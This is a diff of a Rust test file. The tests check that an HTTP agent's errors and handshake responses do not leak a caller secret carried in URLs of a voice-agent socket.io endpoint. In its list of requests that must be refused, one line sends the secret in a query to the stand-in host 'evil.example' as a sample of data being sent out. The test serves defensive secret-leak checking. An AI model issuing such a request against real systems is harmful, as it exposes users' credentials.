@@ -47,19 +47,19 @@ async fn errors_show_no_query() {
         let http = HttpService::new(world.reqwest().timeout(Duration::from_millis(500))).unwrap();
         let (agent, secrets) = agent(&world, http);
         let secrets = secrets.each_ref().map(|secret| &**secret);
-        let url = world.url(&format!("audio/agent?secret={CALLER_SECRET}#{CALLER_SECRET}"));
+        let url = world.voice_agent(&format!("&secret={CALLER_SECRET}#{CALLER_SECRET}"));
         let send = || in_time(agent.execute(handshake(agent.reqwest(), &url)));
 
         world.simulator.inject(Fault::Stall);
         let error = inner(send().await);
         assert!(error.is_timeout());
         assert!(world.last().uri.query().unwrap().contains(secrets[1]), "the secret was sent");
-        assert_eq!(error.url().unwrap().as_str(), world.url("audio/agent"));
+        assert_eq!((error.url().unwrap().path(), error.url().unwrap().query()), ("/socket.io/", None));
         assert_clean_error(&secrets, &error);
         assert_clean_error(&secrets, &Error::<reqwest::Error>::Inner(error));
 
         for _ in 0..11 {
-            world.redirect(307, &format!("/v1/audio/agent?again={}", world.key));
+            world.redirect(307, &format!("/socket.io/?again={}", world.key));
         }
         let error = inner(send().await);
         assert!(error.is_redirect());
@@ -74,7 +74,7 @@ async fn handshake_response_shows_no_query() {
         let world = world(protocol).await;
         let (agent, secrets) = agent(&world, HttpService::new(world.reqwest()).unwrap());
         let secrets = secrets.each_ref().map(|secret| &**secret);
-        let url = world.url(&format!("audio/agent?secret={CALLER_SECRET}"));
+        let url = world.voice_agent(&format!("&secret={CALLER_SECRET}"));
         world.simulator.inject(Fault::Unavailable);
         let response = in_time(agent.execute(handshake(agent.reqwest(), &url))).await.unwrap();
         assert_eq!(response.status(), StatusCode::SERVICE_UNAVAILABLE);
@@ -104,7 +104,7 @@ async fn unsent_requests_show_no_query() {
     let world = plain().await;
     let (agent, secrets) = agent(&world, HttpService::new(world.reqwest()).unwrap());
     let secrets = secrets.each_ref().map(|secret| &**secret);
-    let here = handshake(agent.reqwest(), &world.url(&format!("audio/agent?secret={CALLER_SECRET}")));
+    let here = handshake(agent.reqwest(), &world.voice_agent(&format!("&secret={CALLER_SECRET}")));
     for refused in [
         agent.reqwest().get(format!("data:?{CALLER_SECRET}")),
         agent.reqwest().get(format!("not a URL with {CALLER_SECRET}")),
@@ -113,7 +113,7 @@ async fn unsent_requests_show_no_query() {
             .reqwest()
             .get(format!("ftp://{CALLER_SECRET}:{CALLER_SECRET}@host/?{CALLER_SECRET}#{CALLER_SECRET}")),
         handshake(agent.reqwest(), &format!("https://evil.example/?secret={CALLER_SECRET}")),
-        agent.reqwest().get(world.url("audio/agent")).header("x", "not\na header"),
+        agent.reqwest().get(world.voice_agent("")).header("x", "not\na header"),
     ] {
         let error = in_time(agent.execute(refused)).await.unwrap_err();
         assert_clean_error(&secrets, &error);
